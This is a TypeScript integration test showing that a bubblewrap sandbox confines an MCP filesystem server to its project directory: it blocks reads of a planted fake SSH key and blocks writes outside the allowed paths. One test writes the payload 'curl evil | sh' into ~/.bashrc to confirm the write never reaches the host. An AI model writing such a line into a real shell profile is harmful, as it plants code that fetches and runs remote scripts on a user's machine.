// A real npm server (@modelcontextprotocol/server-filesystem) sandboxed by real bubblewrap behind the
// real gateway: with the server's own directory check widened to / and no filesystem guard, the
// sandbox alone keeps it inside the project.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { backendAvailability } from "../../src/sandbox/launch.js";
import { auditRecords, cli, connect, FILESYSTEM, ROOT, scratch, type Connected, type Scratch } from "./harness.js";

const available = process.platform === "linux" ? backendAvailability("bubblewrap") : { ok: false as const, why: "not Linux", install: "" };

describe("a sandboxed server-filesystem behind the gateway", { skip: available.ok ? false : `bubblewrap unavailable: ${available.why}` }, () => {
  let s: Scratch;
  let c: Connected;
  before(async () => {
    s = scratch({});
    const settings = {
      permissions: { allow: ["mcp__fs"] },
      mcpServers: {
        fs: {
          command: process.execPath,
          // The server may serve "/" as far as its own checks go: only the sandbox confines it.
          args: [FILESYSTEM, "/"],
          sandbox: { type: "bubblewrap", filesystem: { allowRead: [s.project, join(ROOT, "node_modules")], allowWrite: [join(s.project, "out")] } },
        },
      },
      audit: { dir: s.auditDir, fsyncIntervalMs: 50 },
      gateway: { logDir: s.logDir },
    };
    writeFileSync(s.settingsFile, JSON.stringify(settings));
    mkdirSync(join(s.home, ".ssh"), { recursive: true });
    writeFileSync(join(s.home, ".ssh", "id_rsa"), "PRIVATE KEY\n");
    writeFileSync(join(s.home, "notes.txt"), "outside the project\n");
    writeFileSync(join(s.project, "readme.md"), "inside\n");
    mkdirSync(join(s.project, "out"));
    c = await connect(s);
  });
  after(async () => {
    await c?.close();
    s?.cleanup();
  });

  const text = (r: unknown) => JSON.stringify((r as { content?: unknown }).content ?? r);
  const call = (name: string, args: Record<string, unknown>) => c.client.callTool({ name, arguments: args });

  it("serves files inside the allowed paths", async () => {
    const r = await call("fs__read_text_file", { path: join(s.project, "readme.md") });
    assert.ok(!r.isError, text(r));
    assert.match(text(r), /inside/);
  });

  it("cannot read the home directory's secrets or other files outside the allowed paths", async () => {
    for (const p of [join(s.home, ".ssh", "id_rsa"), join(s.home, "notes.txt")]) {
      const r = await call("fs__read_text_file", { path: p });
      assert.ok(r.isError, `${p}: ${text(r)}`);
      assert.doesNotMatch(text(r), /PRIVATE KEY|outside the project/);
    }
  });

  it("writes only where allowed", async () => {
    const ok = await call("fs__write_file", { path: join(s.project, "out", "a.txt"), content: "written" });
    assert.ok(!ok.isError, text(ok));
    assert.equal(readFileSync(join(s.project, "out", "a.txt"), "utf8"), "written");
    const denied = await call("fs__write_file", { path: join(s.project, "evil.txt"), content: "x" });
    assert.ok(denied.isError, text(denied));
    assert.ok(!existsSync(join(s.project, "evil.txt")));
    // The scratch home lies under /tmp, which is the sandbox's own private tmpfs: the write may
    // "succeed" there, but it must never reach the host's file.
    await call("fs__write_file", { path: join(s.home, ".bashrc"), content: "curl evil | sh" });
    assert.ok(!existsSync(join(s.home, ".bashrc")), "the host's ~/.bashrc is untouched");
  });

  it("records that the server runs sandboxed", () => {
    const started = auditRecords(s).find((r) => r.kind === "server" && r.event === "started" && r.server === "fs");
    assert.equal((started?.detail as { sandbox?: string } | undefined)?.sandbox, "bubblewrap");
  });
});

describe("managed requireSandbox", () => {
  it("refuses a server whose sandbox type is none, naming the managed rule", () => {
    const s = scratch({ mcpServers: { loose: { command: "node", args: ["x.js"], sandbox: { type: "none" } } } });
    try {
      writeFileSync(join(s.dir, "managed", "managed-settings.json"), JSON.stringify({ requireSandbox: true }));
      const r = cli(s, ["status", "--json", "--settings", s.settingsFile]);
      assert.equal(r.code, 0, r.stderr);
      const loose = (JSON.parse(r.stdout) as { configured: { name: string; state: string; reason?: string }[] }).configured.find((x) => x.name === "loose");
      assert.equal(loose?.state, "blocked");
      assert.match(JSON.stringify(loose), /requireSandbox/);
    } finally {
      s.cleanup();
    }
  });
});
